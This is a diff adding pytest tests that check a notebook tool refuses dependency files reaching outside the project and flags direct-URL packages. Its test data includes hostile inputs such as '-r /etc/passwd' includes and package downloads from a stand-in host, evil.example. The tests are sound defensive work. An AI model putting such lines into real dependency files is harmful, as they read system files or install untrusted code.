@@ -230,3 +230,78 @@ def test_a_trusted_project_cannot_point_uv_at_its_index(orbit: Orbit, tmp_path, 
     out = json.loads((tmp_path / "out.ipynb").read_text())
     assert "".join(out["cells"][0]["outputs"][0]["text"]).strip() == "True"
     assert evil_index.requests
+
+
+# -- other lines that reach outside the project ------------------------------------------------
+
+OUTSIDE = {
+    "requirements -r /etc/passwd": (
+        {"requirements.txt": "-r /etc/passwd\n"},
+        "included file /etc/passwd points outside the project folder",
+    ),
+    "requirements -c ../outside": (
+        {"requirements.txt": "six\n-c ../../outside.txt\n"},
+        "outside.txt points outside the project folder",
+    ),
+    "requirements -e ../..": (
+        {"requirements.txt": "-e ../..\n"},
+        "points outside the project folder",
+    ),
+    "requirements file: URL outside": (
+        {"requirements.txt": "evil @ file:///etc\n"},
+        "requirements.txt:1: 'evil @ file:///etc'",
+    ),
+    "environment.yml pip -r outside": (
+        {"environment.yml": "dependencies:\n  - pip:\n    - -r /etc/passwd\n"},
+        "points outside the project folder",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", list(OUTSIDE))
+def test_lines_reaching_outside_the_project_are_refused(tmp_path: Path, case: str):
+    files, message = OUTSIDE[case]
+    root = tmp_path / "a" / "b" / "proj"
+    root.mkdir(parents=True)
+    (root / ".git").mkdir()
+    for name, text in files.items():
+        (root / name).write_text(text)
+    nb = _notebook(root)
+    with pytest.raises(OrbitError, match=message.replace(".", r"\.")):
+        prepare(nb, Choices(indexes=IndexPolicy()), Paths(tmp_path / "h"), until="lookup")
+
+
+DIRECT = {
+    "requirements direct URL": {"requirements.txt": "six @ https://evil.example/six-1.0.whl\n"},
+    "requirements git URL": {"requirements.txt": "git+https://evil.example/six.git#egg=six\n"},
+    "pyproject direct URL": {
+        "pyproject.toml": '[project]\nname = "p"\ndependencies = ["six @ https://evil.example/s.whl"]\n'
+    },
+    "PEP 723 direct URL": {},
+    "npm tarball": {},
+}
+
+
+@pytest.mark.parametrize("case", list(DIRECT))
+def test_direct_references_need_trust_and_are_reported(tmp_path: Path, case: str):
+    """A direct URL names one package's file, not an index: it is the project's to declare,
+    so it needs the project's trust (not the profile's) and is always reported."""
+    from jupyter_orbit.errors import TrustError
+    from jupyter_orbit.prepare import Consent
+
+    root = tmp_path / "proj"
+    root.mkdir()
+    (root / ".git").mkdir()
+    for name, text in DIRECT[case].items():
+        (root / name).write_text(text)
+    cell, packages = "1", {}
+    if case == "PEP 723 direct URL":
+        cell = _pep723('dependencies = ["six @ https://evil.example/six-1.0.whl"]')
+    if case == "npm tarball":
+        packages = {"npm": ["left-pad@https://evil.example/left-pad.tgz"]}
+    nb = _notebook(root, cell, **({"packages": packages} if packages else {}))
+    paths = Paths(tmp_path / "h")
+    res = prepare(nb, Choices(indexes=IndexPolicy()), paths, until="lookup").resolution
+    assert any("evil.example" in s for s in res.source_changing), res.source_changing
+    with pytest.raises(TrustError):
+        Consent(trusted_folders=True).check(paths, res)
